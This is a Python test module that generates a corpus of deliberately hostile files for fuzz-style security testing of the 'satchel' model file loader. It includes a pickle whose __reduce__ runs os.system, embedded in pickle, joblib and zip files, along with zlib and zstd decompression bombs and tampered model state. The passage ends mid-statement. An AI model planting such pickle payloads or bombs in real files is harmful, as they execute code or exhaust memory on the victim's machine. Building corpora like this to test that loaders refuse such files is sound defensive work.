"""Hostile satchel files, built from valid ones so that the corpus can be regenerated.

``python tests/hostile.py`` (or ``python -m tests.hostile``) rewrites this
module's part of ``tests/corpus/``: one ``<case>.satchel`` per entry of
:data:`CASES`. A case says how its file is made and what loading it must do;
``tests/test_hostile.py`` holds the loader to that. (``tests/forge.py`` writes
the rest of the corpus, with ``expected.json``.)

The forging tools do not use satchel's writer: :func:`pack` computes the header
hash itself (BLAKE3 over the first 24 preamble bytes and the stored header, as
``container.serialize`` does) and :class:`Forge` the array checksums and the
layout, so that a crafted file passes the checksums and reaches the checks
behind them.
"""

from __future__ import annotations

import base64
import functools
import io
import json
import os
import pickle
import struct
import sys
import warnings
import zipfile
import zlib
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import blake3
import numpy as np
import orjson
import xxhash

from satchel.errors import (
    FormatError,
    IntegrityError,
    LimitError,
    SatchelError,
    UnsupportedVersionError,
    UntrustedTypesError,
)
from satchel.format.container import HEADER_DICTIONARY

CORPUS = Path(__file__).resolve().parent / "corpus"
MAGIC = b"\x89SATCHEL"
VERSION = (1, 4)  # what satchel writes; files of 1.0 are read too
ALIGNMENT = 64
PREAMBLE_SIZE = 64
FLAG_ZLIB = 1
FLAG_DICTIONARY = 2


def deflate(header: bytes) -> bytes:
    """A header compressed the way satchel stores it: zlib with the preset dictionary."""
    deflater = zlib.compressobj(6, zdict=HEADER_DICTIONARY)  # as FORMAT.md, section 2
    return deflater.compress(header) + deflater.flush()


def inflate(stored: bytes, flags: int) -> bytes:
    """The text of a stored zlib header (flag bit 1: with the preset dictionary)."""
    if flags & FLAG_DICTIONARY:
        inflater = zlib.decompressobj(zdict=HEADER_DICTIONARY)
        return inflater.decompress(stored) + inflater.flush()
    return zlib.decompress(stored)
MAX_HEADER_BYTES = 256 * 1024**2
#: What a forged callable would create if it ever ran. Relative: tests load in a
#: scratch directory and look for ``MARKER*`` there.
MARKER = "satchel-marker"
#: A module that does not exist: a file naming it must not even lead to an import attempt.
FAKE_MODULE = "satchel_hostile_no_such_module"
#: A package the tests install whose import creates ``MARKER + "-imported"``.
MARKER_MODULE = "satchel_hostile_marker_pkg"
_DIGEST_TAG = b"satchel/1 content digest\n"
Builder = Callable[[], bytes]


# ---------------------------------------------------------------- byte level


def align(n: int) -> int:
    """``n`` rounded up to the array alignment."""
    return -(-n // ALIGNMENT) * ALIGNMENT


def pack(header: bytes, section: bytes = b"", *, compress: bool | None = None,
         version: tuple[int, int] = VERSION, flags: int | None = None,
         declared_length: int | None = None) -> bytes:
    """A whole file around the JSON ``header`` text, with a correct header hash.

    The header is stored zlib-compressed when ``compress`` is true (by default
    from 512 bytes, as the writer does), then padded to the array alignment and
    followed by ``section``. ``flags`` and ``declared_length`` override those
    preamble fields; the hash covers whatever the preamble declares.
    """
    if compress is None:
        compress = len(header) >= 512
    stored = deflate(header) if compress else header
    flags = (FLAG_ZLIB | FLAG_DICTIONARY if compress else 0) if flags is None else flags
    length = len(stored) if declared_length is None else declared_length
    start = struct.pack("<8sHHIQ", MAGIC, *version, flags, length)
    body = start + blake3.blake3(start + stored).digest() + bytes(8) + stored
    return body + bytes(align(len(body)) - len(body)) + section


def header_text(tree: bytes, arrays: bytes = b"[]", metadata: bytes = b"{}") -> bytes:
    """A JSON header assembled from JSON texts (for trees too deep for a JSON encoder)."""
    return (b'{"digest":"blake3:' + b"0" * 64 + b'","tree":' + tree + b',"arrays":' + arrays
            + b',"metadata":' + metadata + b"}")


def dtype_json(dtype: np.dtype[Any]) -> Any:
    """A dtype as the array table describes it."""
    if dtype.fields is None:
        return dtype.str
    names = list(dtype.names or ())
    return {"names": names, "formats": [dtype_json(dtype.fields[n][0]) for n in names],
            "offsets": [int(dtype.fields[n][1]) for n in names], "itemsize": dtype.itemsize}


def dtype_from_json(spec: Any) -> np.dtype[Any]:
    """The dtype :func:`dtype_json` describes.

    Raises:
        ValueError: a record field lies outside the itemsize. numpy builds such a dtype
            (an edit of the fuzzer can move a field to offset 2**31 - 1) and then reads
            past the buffer of an array of it: the fuzzing process crashed.
    """
    if isinstance(spec, str):
        return np.dtype(spec)
    dtype = np.dtype({"names": spec["names"], "formats": [dtype_from_json(f) for f in
                                                          spec["formats"]],
                      "offsets": spec["offsets"], "itemsize": spec["itemsize"]})
    for field, offset, *_ in (dtype.fields or {}).values():
        if not 0 <= offset <= dtype.itemsize - field.itemsize:
            raise ValueError(f"a field of {field} at offset {offset} lies outside a record of"
                             f" {dtype.itemsize} bytes")
    return dtype


def table_entry(data: bytes, dtype: Any, shape: list[int], offset: int = 0,
                **extra: Any) -> dict[str, Any]:
    """An array-table entry for the stored bytes ``data``, with correct checksums."""
    return {"dtype": dtype, "shape": shape, "order": "C", "offset": offset, "length": len(data),
            "blake3": blake3.blake3(data).hexdigest(), "xxh3": xxhash.xxh3_64_hexdigest(data),
            **extra}


def content_digest(header: dict[str, Any]) -> str:
    """The header's content digest recomputed, or the old one if the header is too broken."""
    try:
        hasher = blake3.blake3(_DIGEST_TAG)
        hasher.update(orjson.dumps(header["tree"]))
        for entry in header["arrays"]:
            hasher.update(orjson.dumps([entry["dtype"], entry["shape"], entry["order"]]))
            hasher.update(bytes.fromhex(entry["blake3"]))
    except (TypeError, KeyError, ValueError, orjson.JSONEncodeError):
        return str(header.get("digest", ""))
    return "blake3:" + hasher.hexdigest()


@dataclass
class Forge:
    """A satchel file taken apart: its decoded JSON header and its array section."""

    header: dict[str, Any]
    section: bytes

    @classmethod
    def parse(cls, data: bytes) -> Forge:
        """Take a valid file apart."""
        flags, length = struct.unpack_from("<IQ", data, 12)
        stored = data[PREAMBLE_SIZE:PREAMBLE_SIZE + length]
        text = inflate(stored, flags) if flags & FLAG_ZLIB else stored
        return cls(orjson.loads(text), data[align(PREAMBLE_SIZE + length):])

    @property
    def tree(self) -> Any:
        """The object tree (edit it in place)."""
        return self.header["tree"]

    def array(self, index: int) -> np.ndarray[Any, Any]:
        """Array ``index`` of the section, as a writable copy."""
        entry = self.header["arrays"][index]
        raw = self.section[entry["offset"]:entry["offset"] + entry["length"]]
        flat = np.frombuffer(raw, dtype=dtype_from_json(entry["dtype"])).copy()
        shape = entry["shape"]
        return flat.reshape(shape[::-1]).T if entry["order"] == "F" else flat.reshape(shape)

    def arrays(self) -> list[np.ndarray[Any, Any]]:
        """Every array of the section, as writable copies."""
        return [self.array(i) for i in range(len(self.header["arrays"]))]

    def set_arrays(self, arrays: list[np.ndarray[Any, Any]]) -> None:
        """Lay ``arrays`` out as a writer does: aligned, in order, with their checksums."""
        entries, chunks, offset = [], [], 0
        for array in arrays:
            fortran = array.flags.f_contiguous and not array.flags.c_contiguous
            data = np.ascontiguousarray(array.T if fortran else array).tobytes()
            entry = table_entry(data, dtype_json(array.dtype), list(array.shape), offset)
            entry["order"] = "F" if fortran else "C"
            entries.append(entry)
            chunks.append(data + bytes(align(len(data)) - len(data)))
            offset += align(len(data))
        self.header["arrays"] = entries
        end = entries[-1]["offset"] + entries[-1]["length"] if entries else 0
        self.section = b"".join(chunks)[:end]

    def to_bytes(self, *, compress: bool | None = None) -> bytes:
        """The file, with its content digest, header hash and padding recomputed."""
        self.header["digest"] = content_digest(self.header)
        return pack(orjson.dumps(self.header), self.section, compress=compress)


# ---------------------------------------------------------------- tree level


def nodes(tree: Any) -> Iterator[dict[str, Any]]:
    """Every JSON object in ``tree``, parents first (data keys included)."""
    stack = [tree]
    while stack:
        node = stack.pop()
        if isinstance(node, dict):
            yield node
            stack.extend(reversed(list(node.values())))
        elif isinstance(node, list):
            stack.extend(reversed(node))


def find(tree: Any, cls: str) -> dict[str, Any]:
    """The first node of class ``cls`` (the part after ``module:``)."""
    for node in nodes(tree):
        name = node.get("cls")
        if isinstance(name, str) and name.rpartition(":")[2] == cls:
            return node
    raise LookupError(f"no {cls} node")


def attrs(node: dict[str, Any]) -> Any:
    """The attributes (or state tuple items) of an ``obj``/``new`` node, editable in place."""
    return node["state"]["v"]


def get_array(forge: Forge, node: dict[str, Any]) -> np.ndarray[Any, Any]:
    """The array an ``nd`` node (inline or in the section) or a ``ref`` to one holds."""
    if node.get("$") == "ref":
        node = next(n for n in nodes(forge.tree) if n.get("@") == node["to"])
    if "b64" not in node:
        return forge.array(node["a"])
    flat = np.frombuffer(base64.b64decode(node["b64"]), dtype=dtype_from_json(node["dtype"]))
    return flat.copy().reshape(node["shape"])


def put_array(node: dict[str, Any], array: np.ndarray[Any, Any]) -> None:
    """Make ``node`` an inline ``nd`` node holding ``array`` (keeping its ``@`` number)."""
    number = node.get("@")
    array = np.ascontiguousarray(array)
    node.clear()
    node.update({"$": "nd", "dtype": dtype_json(array.dtype), "shape": list(array.shape),
                 "b64": base64.b64encode(array.tobytes()).decode("ascii")})
    if number is not None:
        node["@"] = number


def edit_array(forge: Forge, node: dict[str, Any],
               change: Callable[[np.ndarray[Any, Any]], Any]) -> None:
    """Apply ``change`` to the array of ``node`` and store the result inline."""
    array = get_array(forge, node)
    changed = change(array)
    put_array(node, array if changed is None else changed)


def forged(base_name: str, edit: Callable[[Forge], Any]) -> bytes:
    """The valid file ``base_name`` after ``edit``, with every checksum recomputed."""
    forge = Forge.parse(base(base_name))
    edit(forge)
    return forge.to_bytes()


def _empty_coo(shape: list[int]) -> dict[str, Any]:
    """A COO matrix node of ``shape`` that holds no values: a few bytes, whatever its shape."""
    empty = {"$": "nd", "dtype": "<i4", "shape": [0], "b64": ""}
    return {"$": "sparse", "cls": "coo_matrix", "shape": shape,
            "data": {**empty, "dtype": "<f8"}, "row": empty, "col": empty}


def rooted(tree: Any, section: list[np.ndarray[Any, Any]] | None = None,
           metadata: dict[str, Any] | None = None) -> bytes:
    """A file whose whole tree is ``tree`` (and whose arrays are ``section``)."""
    forge = Forge({"digest": "", "tree": tree, "arrays": [], "metadata": metadata or {}}, b"")
    forge.set_arrays(section or [])
    return forge.to_bytes()


# ---------------------------------------------------------------- valid bases


@functools.cache
def training_data() -> tuple[np.ndarray[Any, Any], np.ndarray[Any, Any]]:
    """80 rows, 4 features (the last one a small category code), two classes."""
    rng = np.random.default_rng(0)
    features = rng.normal(size=(80, 4))
    features[:, 3] = rng.integers(0, 4, size=80)
    return features, (features[:, 0] + features[:, 1] + (features[:, 3] == 2) > 0).astype(int)


def _base_object(name: str) -> Any:
    from scipy import sparse
    from sklearn.cluster import HDBSCAN, KMeans
    from sklearn.compose import ColumnTransformer
    from sklearn.decomposition import MiniBatchNMF
    from sklearn.dummy import DummyClassifier, DummyRegressor
    from sklearn.ensemble import (
        BaggingClassifier,
        HistGradientBoostingClassifier,
        RandomForestClassifier,
    )
    from sklearn.feature_extraction.text import CountVectorizer
    from sklearn.kernel_approximation import AdditiveChi2Sampler, PolynomialCountSketch
    from sklearn.linear_model import LinearRegression
    from sklearn.manifold import LocallyLinearEmbedding
    from sklearn.metrics import DistanceMetric, pairwise_distances, pairwise_distances_argmin
    from sklearn.neighbors import KNeighborsClassifier, KNeighborsRegressor
    from sklearn.pipeline import make_pipeline
    from sklearn.preprocessing import (
        FunctionTransformer,
        OneHotEncoder,
        PolynomialFeatures,
        StandardScaler,
    )
    from sklearn.svm import SVC
    from sklearn.tree import DecisionTreeClassifier

    X, y = training_data()
    makers: dict[str, Callable[[], Any]] = {
        "value": lambda: {"x": np.arange(300.0), "i": np.arange(100, dtype=np.int32),
                          "t": "text"},
        "words": lambda: {"words": [f"w{i}" for i in range(40)],
                          "vocab": {f"w{i}": i for i in range(40)}},
        "sparse": lambda: {"csr": sparse.random(30, 20, density=0.3, format="csr",
                                                random_state=0),
                           "coo": sparse.random(30, 20, density=0.3, format="coo",
                                                random_state=1)},
        "function": lambda: FunctionTransformer(np.log1p),
        "tree": lambda: DecisionTreeClassifier(max_depth=3, random_state=0).fit(X, y),
        "forest": lambda: RandomForestClassifier(n_estimators=2, max_depth=3,
                                                 random_state=0).fit(X, y),
        "hgb": lambda: HistGradientBoostingClassifier(
            # One predictor: a list of one is stored plainly, which the edits below
            # address (predictors stored as columns are forged in tests/forge.py).
            max_iter=1, max_depth=3, categorical_features=[3], random_state=0).fit(X, y),
        "kdtree": lambda: KNeighborsClassifier(algorithm="kd_tree", leaf_size=5).fit(X, y),
        "balltree": lambda: KNeighborsClassifier(
            algorithm="ball_tree", leaf_size=5, metric="mahalanobis",
            metric_params={"VI": np.eye(4)}).fit(X, y),
        "svc": lambda: SVC(random_state=0).fit(X, y),
        "kmeans": lambda: KMeans(n_clusters=2, n_init=1, random_state=0).fit(X),
        "bagging": lambda: BaggingClassifier(DecisionTreeClassifier(max_depth=2), n_estimators=3,
                                             max_features=2, random_state=0).fit(X, y),
        "polynomial": lambda: make_pipeline(PolynomialFeatures(2), LinearRegression()).fit(X, y),
        "function_pipeline": lambda: make_pipeline(FunctionTransformer(np.tanh),
                                                   LinearRegression()).fit(X, y),
        "linear": lambda: LinearRegression().fit(X, y),
        "dummy": lambda: DummyClassifier(strategy="most_frequent").fit(X, y),
        "dummy_regressor": lambda: DummyRegressor().fit(X, y),
        "one_hot": lambda: OneHotEncoder(sparse_output=False, handle_unknown="ignore").fit(X),
        "column_pipeline": lambda: make_pipeline(ColumnTransformer(
            [("scale", StandardScaler(), [0, 1, 2, 3])]), LinearRegression()).fit(X, y),
        "count_vectorizer": lambda: CountVectorizer(ngram_range=(1, 2)).fit(
            ["red green blue", "green blue sky"]),
        "lle": lambda: LocallyLinearEmbedding(n_components=1, n_neighbors=5).fit(X),
        "pairwise_pipeline": lambda: make_pipeline(FunctionTransformer(
            pairwise_distances, kw_args={"metric": "euclidean"}), LinearRegression()).fit(X, y),
        "argmin_function": lambda: FunctionTransformer(
            pairwise_distances_argmin, kw_args={"Y": np.eye(4)}).fit(X),
        "hdbscan": lambda: HDBSCAN(min_cluster_size=3, copy=True).fit(X),
        "forest_one_class": lambda: RandomForestClassifier(
            n_estimators=2, max_depth=2, random_state=0).fit(X, np.zeros(len(X), dtype=int)),
        "minibatch_nmf": lambda: MiniBatchNMF(n_components=2, random_state=0).fit(np.abs(X)),
        "chi2_sampler": lambda: make_pipeline(FunctionTransformer(np.abs), AdditiveChi2Sampler(),
                                              LinearRegression()).fit(X, y),
        "count_sketch": lambda: make_pipeline(PolynomialCountSketch(n_components=10,
                                                                    random_state=0),
                                              LinearRegression()).fit(X, y),
        "knn_mahalanobis_object": lambda: KNeighborsRegressor(
            algorithm="brute", metric=DistanceMetric.get_metric("mahalanobis", VI=np.eye(4))
        ).fit(X, y),
        **{name: functools.partial(_tampered, name, X) for name in _TAMPERED},
    }
    return makers[name]()


def _tampered(name: str, X: np.ndarray[Any, Any]) -> Any:
    """A fitted model with state edited where its compiled code reads unchecked."""
    from sklearn.cluster import Birch, BisectingKMeans
    from sklearn.neighbors import KNeighborsClassifier, NearestNeighbors

    if name == "gb_init_narrower":  # init_ claims 3 classes but predicts 2 columns, which
        # predict_stages went past
        from sklearn.ensemble import GradientBoostingClassifier
        from sklearn.neural_network import MLPClassifier

        three = np.digitize(X[:, 0], [-0.5, 0.5])
        model = GradientBoostingClassifier(n_estimators=2, max_depth=2, init="zero",
                                           random_state=0).fit(X, three)
        with warnings.catch_warnings():
            warnings.simplefilter("ignore")  # the MLP does not converge in 5 iterations
            model.init_ = MLPClassifier(max_iter=5, random_state=0).fit(X, three > 0)
        model.init_.classes_ = np.arange(3)
    elif name == "knn_fit_x_narrower":  # the brute search reads stored rows as wide as X
        model = KNeighborsClassifier(algorithm="brute").fit(X, X[:, 0] > 0)
        model._fit_X = np.ascontiguousarray(model._fit_X[:, :1])
    elif name == "neighbors_norm_squared":  # indexed per stored row by the euclidean search
        model = NearestNeighbors(algorithm="brute").fit(X)
        model.effective_metric_params_ = {"X_norm_squared": np.zeros(1)}
    elif name == "neighbors_mahalanobis_vi":  # handed to scipy's cdist, which trusts it
        model = NearestNeighbors(algorithm="brute", metric="mahalanobis",
                                 metric_params={"VI": np.eye(4)}).fit(X)
        model.effective_metric_params_ = {"VI": np.eye(1)}
    elif name == "birch_norms_short":  # passed as the centres' squared norms
        model = Birch(n_clusters=None).fit(X)
        model._subcluster_norms = np.zeros(1)
    elif name == "nmf":  # its transform iterates to a tolerance
        from sklearn.decomposition import NMF

        model = NMF(n_components=2, max_iter=500, random_state=0).fit(np.abs(X))
    elif name == "lda":
        from sklearn.decomposition import LatentDirichletAllocation

        model = LatentDirichletAllocation(n_components=2, max_iter=2, random_state=0).fit(
            np.abs(X))
    else:  # bisecting_center_wide: labelling takes its width from the centres
        model = BisectingKMeans(n_clusters=2, random_state=0).fit(X)
        del model._X_mean
        model._bisecting_tree.left.center = np.zeros(50)
        model._bisecting_tree.right.center = np.zeros(50)
    return model


_TAMPERED = ("gb_init_narrower", "knn_fit_x_narrower", "neighbors_norm_squared",
             "neighbors_mahalanobis_vi", "birch_norms_short", "bisecting_center_wide", "nmf",
             "lda")


@functools.cache
def base(name: str) -> bytes:
    """A valid file of base object ``name``, with empty metadata (so: deterministic bytes)."""
    from satchel.format import container
    from satchel.format.encoder import encode

    tree, arrays = encode(_base_object(name))
    return b"".join(container.serialize(tree, arrays, {}))


# ---------------------------------------------------------------- the cases


@dataclass(frozen=True)
class Case:
    """One hostile file and what loading it must do.

    Attributes:
        name: the corpus file is ``<name>.satchel``.
        build: makes the file's bytes.
        about: one line on what the file is.
        error: the error load and loads must raise (exactly that class if ``exact``).
        match: substrings the error message must hold.
        names: for untrusted names, exactly what ``UntrustedTypesError.names`` lists.
        isolate: ``"crash"`` (load, then predict, in a child process),
            ``"memory"`` (in a child under an address-space limit, peak memory
            measured) or ``"imports"`` (in a fresh child, with
            :data:`MARKER_MODULE` installed); ``""`` loads in the test process.
        forbidden: module names that must never be imported, nor looked up.
        options: keyword arguments for load and loads.
        seconds: how long an isolated case may take (load, load again, inspect,
            predict) before it counts as a hang.
    """

    name: str
    build: Builder
    about: str
    error: type[SatchelError]
    match: tuple[str, ...] = ()
    names: tuple[str, ...] | None = None
    exact: bool = True
    isolate: str = ""
    forbidden: tuple[str, ...] = ()
    options: tuple[tuple[str, Any], ...] = ()
    seconds: float = 30.0

    @property
    def path(self) -> Path:
        """Where the corpus keeps the file."""
        return CORPUS / f"{self.name}.satchel"


CASES: dict[str, Case] = {}


def add(name: str, build: Builder, about: str, error: type[SatchelError], *match: str,
        **options: Any) -> None:
    """Register a case (its name must be new)."""
    if name in CASES:
        raise ValueError(f"case {name} twice")
    CASES[name] = Case(name, build, about, error, match, **options)


def case(error: type[SatchelError], *match: str, **options: Any) -> Callable[[Builder], Builder]:
    """Register the decorated builder as a case named after it, described by its docstring."""
    def register(build: Builder) -> Builder:
        add(build.__name__, build, (build.__doc__ or "").strip(), error, *match, **options)
        return build
    return register


def untrusted(*names: str, **options: Any) -> Callable[[Builder], Builder]:
    """A case refused by the trust check, listing exactly ``names``."""
    return case(UntrustedTypesError, *names, names=names, **options)




# ---------------------------------------------------------------- foreign files


class _Payload:
    """Unpickling this runs a shell command, as a malicious pickle does."""

    def __reduce__(self) -> tuple[Any, ...]:
        return (os.system, (f"touch {MARKER}-pickle",))


@case(FormatError, "not a satchel file", "a pickle", "never loads pickles")
def foreign_malicious_pickle() -> bytes:
    """A pickle that runs ``touch`` when unpickled, renamed .satchel."""
    return pickle.dumps({"model": _Payload()}, protocol=4)


def _joblib(compress: int) -> bytes:
    import joblib

    buffer = io.BytesIO()
    joblib.dump({"model": _Payload(), "weights": np.arange(100.0)}, buffer, compress=compress)
    return buffer.getvalue()


add("foreign_joblib_payload", lambda: _joblib(0), "A joblib file holding a malicious pickle.",
    FormatError, "not a satchel file", "a pickle")
add("foreign_joblib_zlib", lambda: _joblib(3), "A zlib-compressed joblib file, same payload.",
    FormatError, "not a satchel file", "a zlib stream")


@case(FormatError, "not a satchel file", "a zip archive")
def foreign_skops_zip() -> bytes:
    """A skops-like zip archive naming os.system, with a pickle inside."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr(zipfile.ZipInfo("schema.json"), orjson.dumps(  # fixed dates: same bytes
            {"__class__": "system", "__module__": "os", "__loader__": "ObjectNode"}))
        archive.writestr(zipfile.ZipInfo("payload.pkl"), pickle.dumps(_Payload()))
    return buffer.getvalue()


@case(FormatError, "not a satchel file", "a zstd stream")
def foreign_zstd_wrapped() -> bytes:
    """A valid satchel file wrapped in a zstd stream."""
    import zstandard

    return bytes(zstandard.ZstdCompressor().compress(base("value")))


# ---------------------------------------------------------------- truncations


def _header_end(data: bytes) -> int:
    return PREAMBLE_SIZE + int(struct.unpack_from("<Q", data, 16)[0])


def _cut(at: Callable[[bytes], int]) -> Builder:
    return lambda: base("kdtree")[:at(base("kdtree"))]


_CUTS: list[tuple[str, Callable[[bytes], int], str]] = [
    ("7", lambda d: 7, "not a satchel file"),
    ("8", lambda d: 8, "not even a preamble"),
    ("40", lambda d: 40, "not even a preamble"),
    ("63", lambda d: 63, "not even a preamble"),
    ("64", lambda d: 64, "the header needs"),
    ("mid_header", lambda d: (PREAMBLE_SIZE + _header_end(d)) // 2, "the header needs"),
    ("header_end", _header_end, "the layout ends"),
    ("data_start", lambda d: align(_header_end(d)), "the layout ends"),
    ("mid_arrays", lambda d: (align(_header_end(d)) + len(d)) // 2, "the layout ends"),
    ("last_byte", lambda d: len(d) - 1, "the layout ends"),
]
for _label, _at, _match in _CUTS:
    add(f"truncated_at_{_label}", _cut(_at), f"A nearest-neighbours file cut at {_label}.",
        FormatError if _label == "7" else IntegrityError, _match)


# ---------------------------------------------------------------- bit flips


def _flip(position: Callable[[bytes], int], bit: int = 0) -> Builder:
    def build() -> bytes:
        data = bytearray(base("kdtree"))
        data[position(bytes(data))] ^= 1 << bit
        return bytes(data)
    return build


_FLIPS: list[tuple[str, Callable[[bytes], int], int, type[SatchelError], str]] = [
    ("magic", lambda d: 1, 0, FormatError, "not a satchel file"),
    ("major_version", lambda d: 8, 1, UnsupportedVersionError, "satchel format 3.0"),
    ("minor_version", lambda d: 10, 0, IntegrityError, "header checksum does not match"),
    ("flags", lambda d: 12, 2, FormatError, "reserved preamble bytes"),
    ("header_length", lambda d: 16, 0, IntegrityError, "header checksum does not match"),
    ("header_length_high", lambda d: 23, 6, LimitError, "the header declares"),
    ("header_hash", lambda d: 30, 3, IntegrityError, "header checksum does not match"),
    ("reserved", lambda d: 60, 0, FormatError, "reserved preamble bytes"),
    ("header_body", lambda d: 80, 4, IntegrityError, "header checksum does not match"),
    ("padding", _header_end, 0, IntegrityError, "padding bytes"),
    ("first_array_byte", lambda d: align(_header_end(d)), 7, IntegrityError,
     "does not match its checksum"),
    ("last_byte", lambda d: len(d) - 1, 5, IntegrityError, "does not match its checksum"),
]
for _label, _position, _bit, _error, _match in _FLIPS:
    add(f"flipped_{_label}", _flip(_position, _bit), f"One bit of the {_label} flipped.",
        _error, _match)


@case(IntegrityError, "array 0", "does not match its checksum")
def stale_array_checksum() -> bytes:
    """Array bytes changed, the header hash recomputed but not the array's checksum."""
    forge = Forge.parse(base("value"))
    forge.section = b"\x01" + forge.section[1:]
    return forge.to_bytes()


# ---------------------------------------------------------------- the header


def _small_header() -> bytes:
    return header_text(b"1")


@case(LimitError, "the header declares", "MAX_HEADER_BYTES", isolate="memory")
def header_declares_4_gib() -> bytes:
    """A preamble declaring a 4 GiB header (the hash covers that length)."""
    return pack(_small_header(), declared_length=1 << 32)


@case(LimitError, "the header declares", isolate="memory")
def header_declared_past_the_end() -> bytes:
    """A preamble declaring a 200 MB header in a file of a few hundred bytes."""
    return pack(_small_header(), declared_length=200 << 20)


def _deflate(chunks: Iterator[bytes]) -> bytes:
    deflater = zlib.compressobj(9)
    stored = [deflater.compress(chunk) for chunk in chunks]
    return b"".join([*stored, deflater.flush()])


def _zlib_file(stored: bytes) -> bytes:
    """A file whose stored (zlib) header is ``stored``, with a correct hash."""
    start = struct.pack("<8sHHIQ", MAGIC, 1, 0, FLAG_ZLIB, len(stored))
    body = start + blake3.blake3(start + stored).digest() + bytes(8) + stored
    return body + bytes(align(len(body)) - len(body))


@case(LimitError, "inflates past", isolate="memory")
def header_zlib_bomb() -> bytes:
    """A zlib header of 260 KB that inflates to more than MAX_HEADER_BYTES."""
    block = b" " * (1 << 20)
    return _zlib_file(_deflate(block for _ in range((MAX_HEADER_BYTES >> 20) + 16)))


@case(LimitError, "header", isolate="memory", seconds=5.0)
def header_json_object_bomb() -> bytes:
    """A 12 KB file whose header inflates to 4 million empty lists (300 MB, 30 s to load)."""
    chunk = b"[]," * 1_000_000
    parts = [b'{"digest":"","tree":[', *(chunk for _ in range(4)),
             b'[]],"arrays":[],"metadata":{}}']
    return _zlib_file(_deflate(iter(parts)))


@case(LimitError, "more than 4000000 values", isolate="memory", seconds=5.0)
def header_json_value_bomb() -> bytes:
    """A 60 KB file whose header inflates to 16 million one-letter strings (1.5 GB parsed;
    under an address-space limit, the JSON parser crashed the process)."""
    chunk = b'"a",' * 1_000_000
    parts = [b'{"digest":"","tree":[', *(chunk for _ in range(16)),
             b'"a"],"arrays":[],"metadata":{}}']
    return _zlib_file(_deflate(iter(parts)))


@case(FormatError, "does not inflate")
def header_flagged_zlib_but_plain() -> bytes:
    """Flag bit 0 says zlib, the header is plain JSON."""
    return pack(_small_header(), compress=False, flags=FLAG_ZLIB)


@case(FormatError, "not valid JSON")
def header_not_json() -> bytes:
    """A header that is not JSON."""
    return pack(b"\x80\x04\x95 not json at all")


@case(FormatError, "must be an object with digest, tree, arrays and metadata")
def header_not_an_object() -> bytes:
    """A JSON header that is a list."""
    return pack(b"[1, 2, 3]")


@case(FormatError, "header.metadata must be an object")
def header_metadata_not_an_object() -> bytes:
    """A header whose metadata is a string."""
    return pack(header_text(b"1", metadata=b'"os.system"'))


# ---------------------------------------------------------------- nesting depth


@case(LimitError, "nests deeper than 200 levels")
def depth_300_lists() -> bytes:
    """A tree of 300 nested lists (MAX_DEPTH is 200)."""
    return pack(header_text(b"[" * 300 + b"]" * 300))


@case(LimitError, "nests deeper than 200 levels")
def depth_150_tuples() -> bytes:
    """150 nested tuple nodes, 300 levels of JSON."""
    return pack(header_text(b'{"$":"tuple","v":[' * 150 + b"1" + b"]}" * 150))


@case(FormatError, "pandas name")
def depth_hidden_in_a_data_key() -> bytes:
    """900 nested lists under a pandas node's "name", a key the depth walk skips."""
    name = b"[" * 900 + b"0" + b"]" * 900
    return pack(header_text(b'{"$":"pandas","kind":"RangeIndex","v":[0,3,1],"name":' + name
                            + b"}"))


@case(FormatError, "metadata.check", options=(("verify", True),))
def depth_in_the_check_sample() -> bytes:
    """A check sample (metadata) nested 300 levels deep, read by load(verify=True)."""
    check = b'{"check":{"rows":1,"tree":' + b"[" * 300 + b"]" * 300 + b"}}"
    return pack(header_text(b"1", metadata=check))


# ---------------------------------------------------------------- the array table


def _entry(index: int, **changes: Any) -> Builder:
    def build() -> bytes:
        forge = Forge.parse(base("value"))
        forge.header["arrays"][index].update(changes)
        return forge.to_bytes()
    return build


def _one_array(stored: bytes | Builder, dtype: Any, shape: list[int], **extra: Any) -> Builder:
    """A file whose tree is one array, stored as ``stored`` (or what it makes), as described."""
    def build() -> bytes:
        data = stored() if callable(stored) else stored
        header = {"digest": "", "tree": {"$": "nd", "a": 0},
                  "arrays": [table_entry(data, dtype, shape, **extra)], "metadata": {}}
        return pack(orjson.dumps(header), data)
    return build


def _zstd_rle_frame(content_size: int) -> bytes:
    """A zstd frame of RLE blocks (4 bytes per 128 KiB of zeros) declaring its content size."""
    block = 1 << 17
    frame = [struct.pack("<IBBQ", 0xFD2FB528, 0xC0, 10 << 3, content_size)]
    count = content_size // block
    frame.extend(((block << 3) | (1 << 1) | (i == count - 1)).to_bytes(3, "little") + b"\0"
                 for i in range(count))
    return b"".join(frame)


def _lz4_block(size: int) -> bytes:
    import lz4.block

    return bytes(lz4.block.compress(bytes(size), store_size=False))


add("table_too_many_arrays",
    lambda: pack(header_text(b"1", arrays=b"[" + b"0," * 1_000_000 + b"0]")),
    "An array table of 1,000,001 entries.", LimitError, "at most 1000000 entries",
    isolate="memory")
add("table_entry_extra_key", _entry(0, pickle="gASVAAAAAAAAAAA="),
    "A table entry with a key the format does not define.", FormatError,
    "expected exactly the keys")
add("table_dtype_not_understood", _entry(0, dtype="<f3"),
    "A dtype string the simple-dtype pattern lets through but numpy does not know.",
    FormatError, "header.arrays[0].dtype")
add("table_dtype_bad_datetime_unit", _entry(0, dtype="<M8[xx]"),
    "A datetime dtype with a unit numpy does not know.", FormatError, "header.arrays[0].dtype")
add("table_dtype_zero_itemsize", _one_array(b"", "|V0", [5]),
    "Five elements of a zero-byte void dtype (0 bytes stored, as declared).", FormatError,
    "header.arrays[0].dtype: dtype |V0 has no size")
add("table_dtype_record_of_no_fields", _one_array(
    bytes(8), {"names": [], "formats": [], "offsets": [], "itemsize": 8}, [1]),
    "A record dtype of no fields and eight bytes, which numpy makes and no writer writes.",
    FormatError, "header.arrays[0].dtype: malformed record dtype")
add("table_shape_huge_with_a_zero", _one_array(b"", "<f8", [0, (1 << 64) - 1]),
    "A shape with a zero and a 2**64-1 dimension: no bytes, but no array either.",
    FormatError, "array 0 cannot take shape (0, 18446744073709551615)")
add("table_too_many_dimensions", _one_array(b"\0", "|u1", [1] * 33),
    "An array of 33 dimensions.", FormatError, "at most 32")
add("table_negative_dimension", _one_array(b"", "<f8", [-1]),
    "A negative dimension.", FormatError, "non-negative")
add("table_unknown_codec", _one_array(b"\0" * 8, "<f8", [1], codec="gzip"),
    "An array compressed with a codec the format does not define.", FormatError,
    "codec one of")
add("table_zstd_frame_bomb",
    _one_array(lambda: _zstd_rle_frame(1 << 30), "<f8", [1 << 17], codec="zstd"),
